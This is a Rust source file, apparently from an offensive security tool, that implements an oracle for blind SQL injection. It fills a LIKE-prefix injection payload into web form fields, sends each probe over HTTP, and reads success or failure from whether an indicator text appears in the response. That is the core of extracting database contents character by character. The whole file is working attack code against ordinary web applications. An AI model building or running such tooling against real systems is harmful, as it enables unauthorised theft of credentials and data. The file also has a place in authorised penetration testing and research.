use crate::adapters::http::BaseApi;
use crate::core::blind::{escape_like, escape_sql_literal};
use crate::domain::ports::Oracle;
use crate::utils::error::Result;
use async_trait::async_trait;
use reqwest::Method;

pub const KNOWN_PLACEHOLDER: &str = "{known}";
pub const PAYLOAD_PLACEHOLDER: &str = "{payload}";

/// How a response body is read as a hit or a miss.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Indicator {
    /// Hit when the body does not contain the text (e.g. a login error message).
    Absent(String),
    /// Hit when the body contains the text.
    Present(String),
}

impl Indicator {
    pub fn is_hit(&self, body: &str) -> bool {
        match self {
            Indicator::Absent(text) => !body.contains(text.as_str()),
            Indicator::Present(text) => body.contains(text.as_str()),
        }
    }
}

/// Oracle for `LIKE 'prefix%'` style injections sent through a form.
pub struct SqlLikeOracle {
    api: BaseApi,
    method: Method,
    path: String,
    fields: Vec<(String, String)>,
    payload: String,
    indicator: Indicator,
}

impl SqlLikeOracle {
    pub fn new(
        api: BaseApi,
        path: impl Into<String>,
        payload: impl Into<String>,
        indicator: Indicator,
    ) -> Self {
        Self {
            api,
            method: Method::POST,
            path: path.into(),
            fields: Vec::new(),
            payload: payload.into(),
            indicator,
        }
    }

    pub fn with_method(mut self, method: Method) -> Self {
        self.method = method;
        self
    }

    /// Adds a form field. `{payload}` in the value is replaced on every probe.
    pub fn with_field(mut self, name: impl Into<String>, value: impl Into<String>) -> Self {
        self.fields.push((name.into(), value.into()));
        self
    }

    pub fn render_payload(&self, candidate: &str) -> String {
        self.payload.replace(
            KNOWN_PLACEHOLDER,
            &escape_sql_literal(&escape_like(candidate)),
        )
    }

    pub fn render_fields(&self, candidate: &str) -> Vec<(String, String)> {
        let payload = self.render_payload(candidate);
        self.fields
            .iter()
            .map(|(name, value)| (name.clone(), value.replace(PAYLOAD_PLACEHOLDER, &payload)))
            .collect()
    }
}

#[async_trait]
impl Oracle for SqlLikeOracle {
    async fn probe(&self, candidate: &str) -> Result<bool> {
        let fields = self.render_fields(candidate);
        let request = self.api.request(self.method.clone(), &self.path)?;
        let request = if self.method == Method::GET {
            request.query(&fields)
        } else {
            request.form(&fields)
        };

        let body = request.send().await?.text().await?;
        let hit = self.indicator.is_hit(&body);
        tracing::trace!("probe {:?} -> {}", candidate, hit);
        Ok(hit)
    }
}
